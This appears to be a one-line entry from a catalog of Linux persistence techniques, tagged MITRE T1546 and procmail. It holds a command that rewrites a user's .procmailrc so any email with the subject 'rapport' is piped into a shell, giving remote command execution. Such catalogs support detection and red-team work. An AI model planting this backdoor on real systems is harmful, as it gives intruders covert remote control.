# technique: T1546
# location: linux.mail.procmail
# source: /home/paul/.procmailrc
su paul -c "printf ':0 c\n* ^Subject: rapport\n| sh\n' > ~/.procmailrc"
